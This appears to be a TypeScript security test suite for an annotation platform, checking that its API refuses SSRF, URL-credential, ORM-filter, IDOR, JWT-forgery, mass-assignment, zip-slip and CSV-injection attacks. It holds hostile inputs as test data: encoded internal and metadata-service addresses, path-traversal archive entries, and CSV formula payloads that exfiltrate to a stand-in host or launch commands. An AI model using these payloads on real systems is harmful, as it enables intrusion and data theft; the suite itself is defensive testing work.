/**
 * One suite per vulnerability class that peer tools (Label Studio, CVAT) have had advisories for,
 * each `describe` named after its class. Where a class is already proved elsewhere, its block names
 * that test rather than repeating it, and adds only what was missing.
 */
import { randomUUID } from 'node:crypto';
import { SignJWT } from 'jose';
import { csvCell, openZip } from '@tessera/formats';
import { api, createAnnotatableAsset, createOrgWithRoles, passwordStamp, startTestServer, zip, type TestOrg, type TestServer } from '@tessera/server/testing';

let server: TestServer;
let org: TestOrg;
let owner: string;
let manager: string;
let projectId: string;

/** Endpoints written as IP literals that all point inside: allowlisted on purpose, so only the address check stands. */
const INSIDE_ENDPOINTS = ['http://[64:ff9b::7f00:1]:9000', 'http://[::7f00:1]:9000', 'http://[::ffff:7f00:1]:9000', 'http://2130706433:9000', 'http://0x7f.1:9000'];

beforeAll(async () => {
  // Info level: the request log is what the secrets-in-logs class reads.
  server = await startTestServer({ env: { LOG_LEVEL: 'info', S3_IMPORT_ENDPOINTS: INSIDE_ENDPOINTS.map((e) => new URL(e).origin).join(',') } });
  org = await createOrgWithRoles(server.db, 'Security Org', 'security.test');
  owner = await server.tokenFor(org.users.owner.id, org.orgId);
  manager = await server.tokenFor(org.users.manager.id, org.orgId);
  projectId = (await api(server.url, 'POST', '/api/v1/projects', { token: manager, body: { name: 'Security', mediaType: 'image' } })).json.id;
});
afterAll(() => server.close());

const createHook = (url: string) => api(server.url, 'POST', '/api/v1/webhooks', { token: owner, body: { url, events: ['task.submitted'] } });

describe('SSRF', () => {
  // Redirects to private addresses, DNS names resolving inside, and names checked again on every
  // connection (DNS rebinding) are proved against a real receiver in apps/worker/src/webhooks.spec.ts
  // ("follows redirects … refuses …"); allowlisted S3 names resolving to loopback in
  // apps/worker/src/s3-import.spec.ts. Here: every way of writing an inside address as a literal.
  it.each([
    ['decimal IPv4', 'http://2130706433/hook'],
    ['octal IPv4', 'http://0177.0.0.1/hook'],
    ['hex IPv4', 'http://0x7f000001/hook'],
    ['short IPv4', 'http://127.1/hook'],
    ['mixed-radix IPv4 to the metadata service', 'http://0xa9.254.0251.0xfe/latest'],
    ['IPv4-mapped IPv6', 'http://[::ffff:127.0.0.1]/hook'],
    ['IPv4-mapped IPv6 in hex', 'http://[::ffff:a9fe:a9fe]/latest'],
    ['NAT64 (64:ff9b::/96) to loopback', 'http://[64:ff9b::7f00:1]/hook'],
    ['NAT64 to the metadata service', 'http://[64:ff9b::169.254.169.254]/latest'],
    ['local-use NAT64 (64:ff9b:1::/48)', 'http://[64:ff9b:1::a00:1]/hook'],
    ['IPv4-compatible IPv6 (::/96)', 'http://[::7f00:1]/hook'],
    ['IPv4-compatible IPv6 to a private network', 'http://[::10.0.0.1]/hook'],
    ['6to4 wrapping loopback', 'http://[2002:7f00:1::1]/hook'],
    ['unspecified address', 'http://0/hook'],
  ])('a webhook to %s is refused', async (_what, url) => {
    const res = await createHook(url);
    expect([url, res.status]).toEqual([url, 422]);
    expect(res.json.errors).toEqual([expect.objectContaining({ path: 'url', code: 'refused_target' })]);
  });

  it.each(INSIDE_ENDPOINTS)('an S3 import from the allowlisted but inside literal %s is refused before any request', async (endpoint) => {
    for (const dryRun of [true, false]) {
      const res = await api(server.url, 'POST', `/api/v1/projects/${projectId}/imports`, {
        token: manager, body: { source: { type: 's3', endpoint, bucket: 'some-bucket', accessKeyId: 'k', secretAccessKey: 's' }, dryRun },
      });
      expect([endpoint, dryRun, res.status]).toEqual([endpoint, dryRun, 403]);
    }
  });

  it('a public address is still accepted (the guard is not a blanket refusal)', async () => {
    const res = await createHook('http://[2001:4860:4860::8888]/hook');
    expect(res.status).toBe(201);
  });
});

describe('URL credentials', () => {
  // `\` is a path separator to WHATWG URL parsers but not to a regular expression, and a third slash
  // or leading blank is forgiven by the parser: each of these carries a user and password.
  it.each([
    ['a backslash after the scheme', 'http:\\\\user:pass@example.com/hook'],
    ['a slash and a backslash', 'http:/\\user:pass@example.com/hook'],
    ['a backslash inside the authority', 'http://\\user:pass@example.com/hook'],
    ['a third slash', 'http:///user:pass@example.com/hook'],
    ['a leading blank', ' http://user:pass@example.com/hook'],
    ['upper-case scheme', 'HTTP://user:pass@example.com/hook'],
  ])('a webhook URL with %s is refused as carrying credentials', async (_what, url) => {
    const res = await createHook(url);
    expect([url, res.status]).toEqual([url, 400]);
    expect((await server.db.query(`SELECT count(*)::int AS n FROM webhooks WHERE url LIKE '%pass@%'`))[0].n).toBe(0);
  });

  it('an S3 endpoint with credentials in it is refused', async () => {
    const endpoint = INSIDE_ENDPOINTS[0].replace('http://', 'http:///k:s@');
    const res = await api(server.url, 'POST', `/api/v1/projects/${projectId}/imports`, {
      token: manager, body: { source: { type: 's3', endpoint, bucket: 'some-bucket' }, dryRun: true },
    });
    expect(res.status).toBe(400);
    expect(res.json.errors).toEqual([expect.objectContaining({ path: expect.stringMatching(/endpoint$/), message: expect.stringMatching(/credentials/) })]);
  });
});

describe('secrets in logs', () => {
  it('signed file and release links and invitation tokens in request URLs never reach the log', async () => {
    const asset = (await server.db.query(
      `INSERT INTO assets (org_id, project_id, kind, status, name, blob_key, sha256, size, content_type) VALUES ($1, $2, 'image', 'ready', 'pic.png', 'sha256/x', md5(random()::text), 1, 'image/png') RETURNING id`,
      [org.orgId, projectId],
    ))[0].id;
    const files = await api(server.url, 'GET', `/api/v1/assets/${asset}/files`, { token: manager });
    expect(files.status).toBe(200);
    const fileUrl: string = files.json.items[0].url;
    const fileToken = fileUrl.split('/files/')[1];
    const invitation = await api(server.url, 'POST', '/api/v1/invitations', { token: owner, body: { email: 'logged@security.test', role: 'annotator' } });
    const secrets = [fileToken, invitation.json.token, 'a-release-link-secret-0123456789'];
    await api(server.url, 'GET', new URL(fileUrl, server.url).pathname);
    await api(server.url, 'GET', `/api/v1/invitations/preview/${invitation.json.token}`);
    await api(server.url, 'GET', `/api/v1/release-files/${secrets[2]}`);
    await api(server.url, 'GET', `/api/v1/auth/me?access_token=${secrets[2]}`);
    await new Promise((r) => setTimeout(r, 300)); // the API's stdout arrives through a pipe
    const logs = server.logs();
    expect(logs).toMatch(/invitations\/preview\/\[redacted\]/);
    expect(logs).toMatch(/\/files\/\[redacted\]/);
    for (const secret of secrets) expect(logs).not.toContain(secret);
  });
});

/** Two projects of the organisation; the annotator and reviewer belong to the first only. */
async function twoProjects() {
  const a = await createAnnotatableAsset(server.db, org, 'image');
  const b = await createAnnotatableAsset(server.db, org, 'image');
  await server.db.query(`DELETE FROM project_members WHERE project_id = $1 AND user_id = ANY($2::uuid[])`, [b.projectId, [org.users.annotator.id, org.users.reviewer.id]]);
  return { a, b };
}
const tokenOf = (role: keyof TestOrg['users']) => server.tokenFor(org.users[role].id, org.orgId);
const box = (extra: Record<string, unknown> = {}) => ({ id: randomUUID(), labelId: 'car', geometry: { type: 'box', x: 10, y: 10, width: 40, height: 20, rotation: 0 }, attributes: { kind: 'van' }, ...extra });
let clientSeq = 0;
const create = (annotation: Record<string, unknown>) => ({ type: 'create', clientId: 'security-spec', clientSeq: ++clientSeq, annotation });

describe('ORM filter keys', () => {
  // Peers leaked other tables through filters on related fields (`created_by__password__startswith`).
  // Every query string is a strict contract: a key it does not name is refused, never passed to the ORM.
  it.each([
    ['/projects/{p}/assets?created_by__password__startswith=%24argon', 'a related field'],
    ['/projects/{p}/assets?orgId={other}', 'the tenant key'],
    ['/projects/{p}/assets?status[$ne]=ready', 'an operator object'],
    ['/projects/{p}/assets?status=ready&status=failed', 'a repeated key'],
    ['/tasks?assignee__password=x', 'a related field on tasks'],
    ['/audit-events?where=1%3D1', 'a raw where'],
    ['/job-runs?createdBy={other}', "someone else's runs"],
  ])('%s (%s) is refused with 400', async (path, _what) => {
    const other = await createOrgWithRoles(server.db, `Other ${randomUUID()}`, `${randomUUID()}.test`);
    const url = `/api/v1${path.replace('{p}', projectId).replace('{other}', other.orgId)}`;
    const res = await api(server.url, 'GET', url, { token: owner });
    expect([url, res.status]).toEqual([url, 400]);
    expect(res.headers.get('content-type')).toMatch(/problem\+json/);
  });

  it('a search term is matched literally, not as a pattern', async () => {
    for (const name of ['100%.png', 'plain.png', 'a_b.png']) {
      await server.db.query(
        `INSERT INTO assets (org_id, project_id, kind, status, name, blob_key, sha256, size, width, height) VALUES ($1, $2, 'image', 'ready', $3, 'sha256/x', md5(random()::text), 1, 4, 4)`,
        [org.orgId, projectId, name]);
    }
    const find = async (q: string) => (await api(server.url, 'GET', `/api/v1/projects/${projectId}/assets?q=${encodeURIComponent(q)}`, { token: manager })).json.items.map((a: { name: string }) => a.name).sort();
    expect(await find('%')).toEqual(['100%.png']);
    expect(await find('_')).toEqual(['a_b.png']);
  });
});

describe('IDOR on PATCH and DELETE', () => {
  // Across organisations, every route of the API is tried with the other tenant's ids by
  // apps/api/src/authorization-matrix.spec.ts (each answers 404 and changes nothing). Here: across
  // projects of one organisation, for the roles whose reach is their projects or their own work.
  it('a reviewer cannot resolve a comment in a project they do not belong to', async () => {
    const { b } = await twoProjects();
    const [{ id: batchId }] = await server.db.query(`INSERT INTO batches (org_id, project_id, name, overlap) VALUES ($1, $2, 'b', 1) RETURNING id`, [org.orgId, b.projectId]);
    const [{ id: taskId }] = await server.db.query(
      `INSERT INTO tasks (org_id, project_id, batch_id, asset_id, stage, state, assignee_id) VALUES ($1, $2, $3, $4, 'annotate', 'submitted', $5) RETURNING id`,
      [org.orgId, b.projectId, batchId, b.assetId, org.users.manager.id]);
    const [{ id: commentId }] = await server.db.query(`INSERT INTO task_comments (org_id, task_id, body, author_id) VALUES ($1, $2, 'fix this', $3) RETURNING id`, [org.orgId, taskId, org.users.manager.id]);
    for (const role of ['reviewer', 'annotator'] as const) {
      const res = await api(server.url, 'PATCH', `/api/v1/comments/${commentId}`, { token: await tokenOf(role), body: { resolved: true } });
      expect([role, res.status]).toEqual([role, 404]);
    }
    expect((await server.db.query(`SELECT resolved_at FROM task_comments WHERE id = $1`, [commentId]))[0].resolved_at).toBeNull();
  });

  it("an annotator cannot read or change another project's annotations", async () => {
    const { a, b } = await twoProjects();
    const annotator = await tokenOf('annotator');
    expect((await api(server.url, 'POST', `/api/v1/assets/${a.assetId}/annotations/ops`, { token: annotator, body: { ops: [create(box())] } })).status).toBe(200);
    const existing = box();
    expect((await api(server.url, 'POST', `/api/v1/assets/${b.assetId}/annotations/ops`, { token: manager, body: { ops: [create(existing)] } })).status).toBe(200);
    expect((await api(server.url, 'GET', `/api/v1/assets/${b.assetId}/annotations`, { token: annotator })).status).toBe(404);
    const tried = await api(server.url, 'POST', `/api/v1/assets/${b.assetId}/annotations/ops`, {
      token: annotator, body: { ops: [{ type: 'delete', clientId: 'security-spec', clientSeq: ++clientSeq, id: existing.id }] },
    });
    expect(tried.status).toBe(404);
    // Nor through the project that is theirs: an id is taken once, in any set, and ops apply to their own set only.
    const sideways = await api(server.url, 'POST', `/api/v1/assets/${a.assetId}/annotations/ops`, {
      token: annotator, body: { ops: [{ type: 'update', clientId: 'security-spec', clientSeq: ++clientSeq, id: existing.id, patch: { labelId: 'person', attributes: {} } }] },
    });
    expect(sideways.json.results[0].status).toBe('rejected');
    const [row] = await server.db.query(`SELECT label_id FROM annotations WHERE id = $1`, [existing.id]);
    expect(row.label_id).toBe('car');
  });
});

describe('JWT', () => {
  // alg "none", another algorithm (HS512), another key, another audience, expiry, a member who left,
  // and tokens issued before a password change: apps/api/src/auth/auth.spec.ts ("access tokens",
  // "a password change ends other sessions and old access tokens"). Here: the claims that pick the tenant.
  // Carries the person's current password stamp, so only the claim under test is wrong.
  const sign = async (claims: Record<string, unknown>, sub: string) =>
    new SignJWT({ pwd: await passwordStamp(server.db, sub), ...claims }).setProtectedHeader({ alg: 'HS256' }).setSubject(sub).setIssuer('tessera').setAudience('tessera-api').setIssuedAt().setExpirationTime('5m')
      .sign(new TextEncoder().encode(server.jwtSecret));

  it("a valid signature with another organisation's id in it is refused", async () => {
    const other = await createOrgWithRoles(server.db, `JWT Other ${randomUUID()}`, `${randomUUID()}.test`);
    const forged = await sign({ org: other.orgId }, org.users.owner.id);
    expect((await api(server.url, 'GET', '/api/v1/auth/me', { token: forged })).status).toBe(401);
    expect((await api(server.url, 'GET', `/api/v1/projects`, { token: forged })).status).toBe(401);
  });

  it('a token without an organisation, or for a user who does not exist, is refused', async () => {
    expect((await api(server.url, 'GET', '/api/v1/auth/me', { token: await sign({}, org.users.owner.id) })).status).toBe(401);
    expect((await api(server.url, 'GET', '/api/v1/auth/me', { token: await sign({ org: org.orgId }, randomUUID()) })).status).toBe(401);
  });

  it('a token without the password stamp, or with a stale one, is refused', async () => {
    const stamp = await passwordStamp(server.db, org.users.owner.id);
    expect((await api(server.url, 'GET', '/api/v1/auth/me', { token: await sign({ org: org.orgId }, org.users.owner.id) })).status).toBe(200);
    expect((await api(server.url, 'GET', '/api/v1/auth/me', { token: await sign({ org: org.orgId, pwd: undefined }, org.users.owner.id) })).status).toBe(401);
    expect((await api(server.url, 'GET', '/api/v1/auth/me', { token: await sign({ org: org.orgId, pwd: stamp - 1 }, org.users.owner.id) })).status).toBe(401);
    expect((await api(server.url, 'GET', '/api/v1/auth/me', { token: await sign({ org: org.orgId, pwd: String(stamp) }, org.users.owner.id) })).status).toBe(401);
  });

  it('a token with a role claim gets the role from the database, not from the claim', async () => {
    const token = await sign({ org: org.orgId, role: 'owner' }, org.users.annotator.id);
    const me = await api(server.url, 'GET', '/api/v1/auth/me', { token });
    expect(me.json.role).toBe('annotator');
    expect((await api(server.url, 'POST', '/api/v1/projects', { token, body: { name: 'Nope', mediaType: 'image' } })).status).toBe(403);
  });
});

describe('mass assignment', () => {
  // Bodies are strict contracts: a field they do not name is refused whole (400), nothing is written.
  it.each([
    ['POST', '/projects', { name: 'Mine', mediaType: 'image', orgId: '{other}' }],
    ['POST', '/projects', { name: 'Mine', mediaType: 'image', createdBy: '{other}' }],
    ['PATCH', '/projects/{p}', { name: 'Renamed', orgId: '{other}' }],
    ['PATCH', '/projects/{p}', { status: 'archived' }],
    ['POST', '/invitations', { email: 'x@security.test', role: 'annotator', orgId: '{other}' }],
    ['PATCH', '/members/{manager}', { role: 'manager', orgId: '{other}' }],
    ['POST', '/webhooks', { url: 'https://example.com/hook', events: ['task.submitted'], secret: 'mine' }],
  ])('%s %s with a field it does not take is refused', async (method, path, body) => {
    const other = randomUUID();
    const url = `/api/v1${path.replace('{p}', projectId).replace('{manager}', org.users.manager.id)}`;
    const res = await api(server.url, method, url, { token: owner, body: JSON.parse(JSON.stringify(body).replace('{other}', other)) });
    expect([method, url, res.status]).toEqual([method, url, 400]);
    expect((await server.db.query(`SELECT count(*)::int AS n FROM projects WHERE org_id = $1 OR name = 'Mine'`, [other]))[0].n).toBe(0);
  });

  it('a person cannot say where an annotation came from: source, score and predictionId are the server\'s', async () => {
    // Refused by the op committer for every client path (REST and /sync share it): provenance.ts.
    const { a } = await twoProjects();
    const annotator = await tokenOf('annotator');
    const res = await api(server.url, 'POST', `/api/v1/assets/${a.assetId}/annotations/ops`, {
      token: annotator,
      body: { ops: [create(box({ source: 'model' })), create(box({ source: 'consensus' })), create(box({ source: 'import' })), create(box({ score: 0.99 })), create(box({ predictionId: randomUUID() })), create(box())] },
    });
    expect(res.json.results.map((r: { status: string; code?: string }) => r.code ?? r.status)).toEqual(['forbidden', 'forbidden', 'forbidden', 'forbidden', 'forbidden', 'committed']);
    const mine = res.json.results[5];
    expect(mine.status).toBe('committed');
    const made = (await api(server.url, 'GET', `/api/v1/assets/${a.assetId}/annotations`, { token: annotator })).json.annotations;
    expect(made.every((x: { source: string; score: number | null; predictionId: string | null }) => x.source === 'human' && x.score === null && x.predictionId === null)).toBe(true);
    const scored = await api(server.url, 'POST', `/api/v1/assets/${a.assetId}/annotations/ops`, {
      token: annotator, body: { ops: [{ type: 'update', clientId: 'security-spec', clientSeq: ++clientSeq, id: made[0].id, patch: { score: 1 } }] },
    });
    expect(scored.json.results[0]).toMatchObject({ status: 'rejected', code: 'forbidden' });
  });
});

describe('zip slip and zip bombs', () => {
  // Through upload and ingest: apps/worker/src/assets-ingest.spec.ts ("zip archives": unsafe paths,
  // symbolic links, a 20 MiB bomb); through annotation imports: apps/worker/src/annotation-imports.spec.ts
  // ("unsafe archives"). Here: the reader every import uses, with each way of climbing out.
  it('names and skips every entry that would climb out of the archive, every link, and every bomb', async () => {
    const archive = zip([
      { name: 'ok.txt', data: 'fine' },
      { name: '../evil.txt', data: 'x' },
      { name: 'a/../../evil.txt', data: 'x' },
      { name: '/etc/passwd', data: 'x' },
      { name: '\\windows\\evil.txt', data: 'x' },
      { name: 'C:/evil.txt', data: 'x' },
      { name: 'a\\..\\..\\evil.txt', data: 'x' },
      { name: 'link', data: '/etc/passwd', unixMode: 0o120777 },
      { name: 'bomb.bin', data: Buffer.alloc(20 * 1024 * 1024) },
    ]);
    const opened = await openZip(archive);
    try {
      expect(opened.tree.paths()).toEqual(['ok.txt']);
      expect(opened.problems.map((p) => p.where).sort()).toEqual(['../evil.txt', '/etc/passwd', 'C:/evil.txt', 'a/../../evil.txt', 'a\\..\\..\\evil.txt', 'bomb.bin', 'link', '\\windows\\evil.txt'].sort());
    } finally {
      opened.close();
    }
  });
});

describe('CSV injection', () => {
  // Each cell, and each part after a `;` separator, that would run as a formula is defused in every CSV
  // Tessera writes (audit export, scorecards, DICOM measurements all use csvCell): the rule in
  // libs/formats/src/csv-cell.spec.ts, the audit log through a real worker in apps/worker/src/audit-export.spec.ts.
  it('defuses the payloads of published advisories, also after a ; separator', () => {
    const payloads = ['=HYPERLINK("http://evil/?"&A1)', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', 'name;=1+1', 'x;@cmd', 'x; -cmd'];
    for (const p of payloads) {
      const cell = csvCell(p);
      const unquoted = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
      for (const part of [unquoted, ...unquoted.split(';')]) expect([p, /^\s*[=+\-@]/.test(part)]).toEqual([p, false]);
      if (p.includes(';')) expect(cell.startsWith('"')).toBe(true);
    }
  });
});
